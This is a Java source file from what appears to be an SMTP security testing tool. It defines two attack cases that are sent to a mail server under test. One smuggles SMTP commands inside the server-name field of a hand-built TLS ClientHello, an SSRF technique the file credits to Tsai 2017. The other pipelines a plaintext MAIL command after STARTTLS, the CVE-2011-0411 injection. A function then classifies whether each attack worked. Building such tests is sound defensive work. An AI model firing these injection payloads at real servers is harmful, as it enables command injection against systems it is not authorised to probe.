package org.smtpward.demo;

import java.util.List;

/** Attacks on the border between plain text and TLS. */
final class TlsPlays {
    private TlsPlays() {}

    static List<Play> all() {
        return List.of(
                Play.attack(
                        "TLS ClientHello in the clear",
                        "Tsai 2017 (SSRF by SNI)",
                        "https to the SMTP port, with SMTP commands in the server name",
                        (caller, stage) -> {
                            caller.attackBegins();
                            caller.send(clientHello("mail.example.test\r\n" + Mischief.session(stage)));
                            caller.readToTheEnd();
                        },
                        Evidence::ran),
                Play.attack(
                        "STARTTLS injection",
                        "CVE-2011-0411",
                        "behind STARTTLS, in the same segment, MAIL in the clear; then the handshake",
                        (caller, stage) -> {
                            caller.attackBegins();
                            caller.send("STARTTLS\r\n" + Mischief.MAIL + "\r\n");
                            if (caller.reply().startsWith("220")) {
                                caller.handshake();
                                caller.send("QUIT\r\n");
                            }
                            caller.readToTheEnd();
                        },
                        TlsPlays::injected));
    }

    private static Outcome injected(Evidence evidence) {
        Outcome ran = evidence.ran();
        boolean goesOn =
                evidence.toAttack().size() == 2 && evidence.toAttack().getLast().startsWith("221");
        return !ran.worked() && goesOn ? Outcome.failed("thrown away, TLS goes on without it") : ran;
    }

    /** A TLS 1.2 ClientHello (RFC 5246 §7.4.1.2) of one record, as poor as it may be, one char an octet. */
    static String clientHello(String serverName) {
        String names = sized(2, "\0" + sized(2, serverName));
        String hello = "\3\3" + "smtpward".repeat(4)
                + sized(1, "")
                + sized(2, "\u00c0\u002b\u00c0\u002f")
                + sized(1, "\0")
                + sized(2, "\0\0" + sized(2, names));
        return "\u0016\3\1" + sized(2, "\1" + sized(3, hello));
    }

    /** {@code content} behind its length in so many octets. */
    private static String sized(int lengthOctets, String content) {
        var sized = new StringBuilder();
        for (int i = lengthOctets - 1; i >= 0; i--) {
            sized.append((char) (content.length() >> 8 * i & 0xff));
        }
        return sized.append(content).toString();
    }
}
